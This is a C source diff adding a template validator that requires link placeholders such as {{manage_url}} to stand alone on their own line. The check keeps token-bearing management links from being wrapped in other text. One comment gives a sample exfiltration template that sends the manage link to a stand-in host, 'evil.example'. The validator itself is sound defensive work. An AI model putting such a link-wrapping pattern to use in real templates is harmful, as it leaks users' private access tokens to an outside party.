@@ -87,3 +87,43 @@ render_check(const char *tpl, const char *const *names, char *why,
 	}
 	return 1;
 }
+
+/*
+ * Whether every link placeholder of tpl stands alone on its own line
+ * (SPEC §5): a {{*_url}} other than {{base_url}} is its line's only text,
+ * so no template can wrap a live token link in other text (an organizer
+ * harvesting nominators' manage links through "https://evil.example/?u=
+ * {{manage_url}}").  {{base_url}}, the site's address without a token,
+ * may be followed by a path but must start its line.  Returns 1, or 0
+ * with the culprit in why.
+ */
+int
+render_links_alone(const char *tpl, char *why, size_t whysz)
+{
+	const char	*open = tpl, *close, *line;
+	size_t		 nlen;
+	int		 base;
+
+	while ((open = strstr(open, "{{")) != NULL) {
+		if ((close = strstr(open + 2, "}}")) == NULL)
+			return 1;	/* render_check() tells */
+		nlen = (size_t)(close - open - 2);
+		if (nlen < 4 || strncmp(close - 4, "_url", 4) != 0) {
+			open = close + 2;
+			continue;
+		}
+		base = nlen == 8 && strncmp(open + 2, "base_url", 8) == 0;
+		for (line = open; line > tpl && line[-1] != '\n'; line--)
+			if (line[-1] != ' ' && line[-1] != '\t')
+				break;
+		close += 2;
+		if ((line > tpl && line[-1] != '\n') || (!base &&
+		    *close != '\0' && *close != '\n')) {
+			snprintf(why, whysz, "{{%.*s}} must stand alone on its "
+			    "own line", (int)(nlen > 40 ? 40 : nlen), open + 2);
+			return 0;
+		}
+		open = close;
+	}
+	return 1;
+}
